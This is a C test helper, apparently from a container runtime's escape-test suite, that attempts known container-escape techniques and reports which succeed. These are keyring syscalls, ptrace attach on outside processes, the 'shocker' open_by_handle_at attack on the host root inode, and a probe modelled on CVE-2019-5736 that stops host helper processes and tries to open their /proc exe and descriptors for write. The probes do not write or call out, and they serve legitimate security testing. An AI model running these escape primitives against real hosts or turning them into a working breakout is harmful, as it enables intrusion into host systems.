/*
 * The escape attempts EscapesIT makes from inside a container, each printed as name=errno (0: it worked).
 * Static, so it runs in busybox; built by the test with gcc -static and bound read-only at /p.
 *
 *   escape keyctl                 add_key, keyctl(JOIN_SESSION_KEYRING), request_key
 *   escape ptrace <pid>...        kill(pid, 0) and PTRACE_ATTACH of pids from outside the container
 *   escape shocker <dir>          name_to_handle_at on <dir>, then open_by_handle_at of the filesystem's root
 *                                 inode (2, ext4's) through <dir>'s mount: the "shocker" escape
 *   escape exe-watch <name> <dir> CVE-2019-5736's shape: waits for each new pid in this pid namespace, stops it
 *                                 (SIGSTOP), and while it is still the host-side helper <name> (its comm) tries
 *                                 /proc/<pid>/exe and /proc/<pid>/fd/N for write, for a later reopen and for
 *                                 readlink, and PTRACE_ATTACH; at <dir>/stop it tries to reopen every descriptor
 *                                 it held for write and prints the counts to <dir>/result. Never writes a byte.
 *                                 As PID 1 it then waits to be killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int err(long rc) { return rc < 0 ? errno : 0; }

static int keyctl_attempts(void) {
    int add = err(syscall(SYS_add_key, "user", "berth-escape", "x", 1, -2 /* KEY_SPEC_PROCESS_KEYRING */));
    int join = err(syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "berth-escape"));
    int request = err(syscall(SYS_request_key, "user", "berth-escape", NULL, 0));
    printf("add_key=%d keyctl=%d request_key=%d\n", add, join, request);
    return 0;
}

static int ptrace_attempts(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        pid_t pid = (pid_t) atol(argv[i]);
        int seen = err(kill(pid, 0));
        int attach = err(ptrace(PTRACE_ATTACH, pid, NULL, NULL));
        if (attach == 0) ptrace(PTRACE_DETACH, pid, NULL, NULL);
        printf("pid %d kill=%d attach=%d\n", pid, seen, attach);
    }
    return 0;
}

static int shocker(const char *dir) {
    struct { struct file_handle h; unsigned char bytes[128]; } named = {.h.handle_bytes = 128};
    int mount_id;
    int name = err(syscall(SYS_name_to_handle_at, AT_FDCWD, dir, &named.h, &mount_id, 0));
    int at = open(dir, O_RDONLY | O_DIRECTORY);
    int reopen = name ? -1 : err(syscall(SYS_open_by_handle_at, at, &named.h, O_RDONLY));
    /* FILEID_INO32_GEN: inode 2, generation 0, the root of an ext4 filesystem */
    struct { struct file_handle h; unsigned int ino_gen[2]; } root = {.h = {.handle_bytes = 8, .handle_type = 1},
                                                                     .ino_gen = {2, 0}};
    int fd = (int) syscall(SYS_open_by_handle_at, at, &root.h, O_RDONLY | O_DIRECTORY);
    int host_root = fd < 0 ? errno : 0;
    if (fd >= 0) close(fd);
    printf("name_to_handle_at=%d open_by_handle_at=%d host_root=%d\n", name, reopen, host_root);
    return 0;
}

/* ---------- exe-watch ---------- */

struct counts { int caught, exe_write, exe_held, exe_readlink, fd_readlink, fd_write, attach, reopen_write; };
static struct counts n;
static int held[4096];
static int heldc;

/* Until /proc/<pid>/stat says stopped (T) or gone, at most ~100 ms. */
static void wait_stopped(pid_t pid) {
    char path[64], stat[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    for (int i = 0; i < 1000; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) return;
        ssize_t got = read(fd, stat, sizeof stat - 1);
        close(fd);
        if (got <= 0) return;
        stat[got] = 0;
        char *end = strrchr(stat, ')');
        if (!end || end[1] == 0 || end[2] == 'T' || end[2] == 't' || end[2] == 'Z') return;
        usleep(100);
    }
}

static int is_helper(pid_t pid, const char *name) {
    char path[64], comm[64] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t got = read(fd, comm, sizeof comm - 1);
    close(fd);
    if (got <= 0) return 0;
    comm[strcspn(comm, "\n")] = 0;
    return strcmp(comm, name) == 0;
}

static void hold(const char *path) {
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) return;
    if (heldc < (int) (sizeof held / sizeof held[0])) held[heldc++] = fd;
    else close(fd);
    n.exe_held++;
}

static void attempt(pid_t pid) {
    char path[64], link[4096];
    n.caught++;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) n.exe_write++, close(fd);
    hold(path);
    if (readlink(path, link, sizeof link) >= 0) n.exe_readlink++;
    for (int i = 0; i < 32; i++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, i);
        if (readlink(path, link, sizeof link) >= 0) n.fd_readlink++;
        /* a pipe to the agent would take the open; what counts is a file or directory of the host */
        if ((fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK)) >= 0) {
            struct stat st;
            if (fstat(fd, &st) == 0 && !S_ISFIFO(st.st_mode) && !S_ISSOCK(st.st_mode) && !S_ISCHR(st.st_mode))
                n.fd_write++;
            close(fd);
        }
    }
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
        /* a tracee must be in its ptrace stop before it can be let go, or it would stay ours and hang */
        int status;
        n.attach++;
        for (int i = 0; i < 1000 && waitpid(pid, &status, __WALL | WNOHANG) == 0; i++) usleep(1000);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
}

static int exe_watch(const char *name, const char *dir) {
    char stop[4096], result[4096], ready[4096];
    snprintf(stop, sizeof stop, "%s/stop", dir);
    snprintf(result, sizeof result, "%s/result", dir);
    snprintf(ready, sizeof ready, "%s/ready", dir);
    pid_t next = getpid() + 1;
    close(open(ready, O_WRONLY | O_CREAT, 0644));
    for (unsigned long round = 0;; round++) {
        /* kill is the cheapest probe there is: the new process is stopped the moment it is seen */
        for (pid_t pid = next; pid < next + 8; pid++) {
            if (kill(pid, SIGSTOP) != 0) continue;
            /* SIGSTOP takes effect on the way back to user space: one caught inside its execve stops as the new
               program (comm changed), which is the container's own and no escape */
            wait_stopped(pid);
            if (is_helper(pid, name)) attempt(pid);
            kill(pid, SIGCONT);
            next = pid + 1;
            break;
        }
        if (round % 4096 == 0 && access(stop, F_OK) == 0) break;
    }
    for (int i = 0; i < heldc; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) n.reopen_write++, close(fd);
    }
    FILE *out = fopen(result, "w");
    if (!out) return 1;
    fprintf(out, "caught=%d exe_write=%d exe_held=%d exe_readlink=%d fd_readlink=%d fd_write=%d attach=%d "
                 "reopen_write=%d\n", n.caught, n.exe_write, n.exe_held, n.exe_readlink, n.fd_readlink, n.fd_write,
            n.attach, n.reopen_write);
    if (fclose(out) != 0) return 1;
    /* as a container's PID 1, stay, or the container (and the result in its /tmp) would be gone */
    while (getpid() == 1) pause();
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "keyctl")) return keyctl_attempts();
    if (argc >= 2 && !strcmp(argv[1], "ptrace")) return ptrace_attempts(argc - 2, argv + 2);
    if (argc == 3 && !strcmp(argv[1], "shocker")) return shocker(argv[2]);
    if (argc == 4 && !strcmp(argv[1], "exe-watch")) return exe_watch(argv[2], argv[3]);
    fprintf(stderr, "usage: escape keyctl | ptrace <pid>... | shocker <dir> | exe-watch <comm> <dir>\n");
    return 2;
}
